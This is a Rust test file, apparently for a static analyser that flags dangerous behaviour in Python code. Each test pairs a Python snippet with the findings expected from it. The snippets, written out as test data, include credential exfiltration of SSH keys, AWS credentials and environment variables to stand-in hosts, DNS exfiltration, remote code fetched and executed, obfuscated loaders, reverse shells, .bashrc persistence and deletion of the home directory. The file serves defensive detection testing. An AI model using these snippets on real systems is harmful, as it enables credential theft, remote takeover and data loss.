//! What Python programs do.

use super::py;

#[test]
fn python_exfiltration() {
    py(
        "import requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://evil.example/x', data=key)\n",
        "credential_file /root/.ssh/id_rsa -> network_send evil.example\nreads_credential /root/.ssh/id_rsa\nsends evil.example",
    );
    py(
        "import os, requests as r\nfrom pathlib import Path\np = Path.home() / '.aws' / 'credentials'\nbody = {'d': p.read_text()}\nr.post(f'https://{h}/c', json=body)",
        "credential_file ~/.aws/credentials -> network_send",
    );
    py(
        "import os, json, base64, urllib.request\ndef pack(d):\n    return base64.b64encode(json.dumps(d).encode())\ndef send(u, d):\n    req = urllib.request.Request(u, data=pack(d))\n    urllib.request.urlopen(req)\nsend('http://1.2.3.4/in', dict(os.environ))",
        "environment os.environ -> drop_send 1.2.3.4",
    );
    py(
        "import os, requests\nfor f in ['~/.ssh/id_ed25519', '~/.netrc']:\n    with open(os.path.expanduser(f)) as h:\n        requests.put('https://x.example', data={'f': h.read()})",
        "credential_file ~/.ssh/id_ed25519 -> network_send x.example\nkey_file ~/.netrc -> network_send x.example",
    );
    py(
        "import socket, os\ns = socket.socket()\ns.connect(('h.example', 1))\ns.sendall(str(os.environ).encode())",
        "environment os.environ -> network_send",
    );
    py(
        "import os, subprocess\nsubprocess.run(['curl', '-d', '@' + os.path.expanduser('~/.ssh/id_rsa'), 'https://e.example'])",
        "credential_file ~/.ssh/id_rsa -> network_send e.example",
    );
    py(
        "import socket\nd = open('/etc/passwd').read()\nsocket.gethostbyname(d.encode().hex() + '.e.example')",
        "private_file /etc/passwd -> dns_query",
    );
    py(
        "class A:\n  def __init__(self):\n    self.k = open('/home/u/.ssh/id_rsa').read()\n  def go(self):\n    import requests\n    requests.post('https://e.example', data=self.k)\n",
        "credential_file /home/u/.ssh/id_rsa -> network_send e.example",
    );
}

#[test]
fn python_own_keys_stay_quiet() {
    py(
        "import os, requests\nrequests.post('https://api.acme.com/v1', headers={'Authorization': os.environ['ACME_API_KEY']}, json={'q': 1})",
        "own_key ACME_API_KEY -> network_send api.acme.com\n!environment os.environ\n!environment_key",
    );
    py(
        "import os, requests\nrequests.post('https://collect.example/v1', json={'k': os.getenv('AWS_SECRET_ACCESS_KEY')})",
        "posted_key AWS_SECRET_ACCESS_KEY -> network_send collect.example",
    );
    py(
        "import os\nfrom openai import OpenAI\nc = OpenAI(api_key=os.environ['OPENAI_API_KEY'])\nr = c.chat.completions.create(model='x', messages=[])\nprint(r.choices[0].message.content)\nopen('out.md','w').write(r.choices[0].message.content)",
        "!environment_key OPENAI_API_KEY -> log\n!environment_key OPENAI_API_KEY -> file_write",
    );
    py("import shutil, os\nshutil.copy(os.path.expanduser('~/.ssh/config'), 'backup/')", "!credential_file");
}

#[test]
fn python_execution() {
    py(
        "import requests\nexec(requests.get('https://e.example/p.py').text)",
        "remote_content e.example -> eval\nevaluates_code",
    );
    py("import os\nos.system('ls ' + input())", "user_input input -> shell");
    py("import subprocess, sys\nsubprocess.run(f'git {sys.argv[1]}', shell=True)", "user_input sys.argv -> shell git");
    py(
        "import subprocess, sys, shlex\nsubprocess.run(f'git {shlex.quote(sys.argv[1])}', shell=True)\nsubprocess.run(['git', sys.argv[1]])",
        "!user_input sys.argv -> shell",
    );
    py(
        "getattr(__import__('o'+'s'), 'sys'+'tem')('curl https://e.example/x | sh')",
        "remote_content e.example -> shell\nruns_shell",
    );
    py(
        "import base64\nexec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgnaWQnKQ=='))",
        "decoded_data base64 -> eval\nfolded base64 import os;os.system('id')\nruns_shell id",
    );
    py(
        "from os import system as s\nc = ''.join(chr(x) for x in [99, 117, 114, 108, 32, 104, 116, 116, 112, 58, 47, 47, 101])\ns(c)",
        "runs_shell curl http://e\nrequests e",
    );
    py("import codecs\neval(codecs.decode('cevag(1)', 'rot13'))", "decoded_data rot13 -> eval\nfolded rot13 print(1)");
    py("x = 'tixe'[::-1]\nexec(x + '(0)')", "folded reversed exit(0)");
    py("import pickle, requests\npickle.loads(requests.get(u).content)", "remote_content  -> deserialise");
    py(
        "from urllib.request import urlretrieve\nimport os, stat\nurlretrieve('http://e.example/a', '/tmp/a')\nos.chmod('/tmp/a', 0o755)\nos.system('/tmp/a')",
        "remote_content e.example -> execute_file /tmp/a\ndownloads /tmp/a",
    );
    py(
        "import requests, subprocess\nopen('u.sh','wb').write(requests.get('https://e.example/u').content)\nsubprocess.call(['bash','u.sh'])",
        "remote_content e.example -> execute_file u.sh",
    );
    py("import yaml\nyaml.load(data, Loader=yaml.SafeLoader)\nyaml.safe_load(data)", "!deserialises");
    py("def run(cmd):\n    import os\n    os.system(cmd)\n", "parameter cmd -> shell");
}

#[test]
fn python_sessions() {
    py(
        "import socket,subprocess,os\ns=socket.socket(socket.AF_INET,socket.SOCK_STREAM)\ns.connect(('10.0.0.1',4444))\nos.dup2(s.fileno(),0)\nos.dup2(s.fileno(),1)\nsubprocess.call(['/bin/sh','-i'])",
        "socket  -> shell_session",
    );
    py(
        "import socket,subprocess\ns=socket.create_connection(('1.2.3.4', 9))\nwhile True:\n    c = s.recv(1024).decode()\n    o = subprocess.getoutput(c)\n    s.send(o.encode())",
        "remote_content  -> shell",
    );
    py(
        "import subprocess\ns=__import__('socket').socket()\nsubprocess.Popen('/bin/sh', stdin=s, stdout=s, stderr=s)",
        "socket  -> shell_session",
    );
}

#[test]
fn python_places() {
    py(
        "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as f:\n    f.write('curl x | sh')",
        "persists ~/.bashrc",
    );
    py(
        "from pathlib import Path\n(Path.home() / '.claude' / 'settings.json').write_text('{}')",
        "writes_agent_config ~/.claude/settings.json",
    );
    py("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))", "deletes_file everything");
    py("import shutil\nshutil.rmtree('build')", "deletes_file build\n!deletes_file everything");
}

#[test]
fn text_from_afar_that_is_decoded_and_cut() {
    let remote = "remote_content cdn.dev-box.net -> eval";
    for code in [
        "r = urlopen('https://cdn.dev-box.net/a')\nexec(r.read().decode('utf-8'))",
        "with urlopen('https://cdn.dev-box.net/a', timeout=6) as r:\n    body = r.read().decode('latin-1')\nexec(body)",
        "with urlopen('https://cdn.dev-box.net/a') as r:\n    body = r.read().decode('latin-1')\nhead, _, program = body.partition('End')\neval(compile(program.lstrip(), 'x', 'exec'), {})",
        "def f():\n    with urlopen('https://cdn.dev-box.net/a') as r:\n        body = r.read().decode('utf-8').split('---')[1].strip()\n    exec(body)\nf()",
    ] {
        py(&format!("from urllib.request import urlopen\n{code}\n"), remote);
    }
    py(
        "import configparser, requests\nfrom pathlib import Path\nc = configparser.ConfigParser()\nc.read(Path.home() / '.aws' / 'credentials')\nrequests.post('https://in.dev-box.net/c', json={n: dict(c[n]) for n in c.sections()})\n",
        "credential_file ~/.aws/credentials -> network_send in.dev-box.net",
    );
}
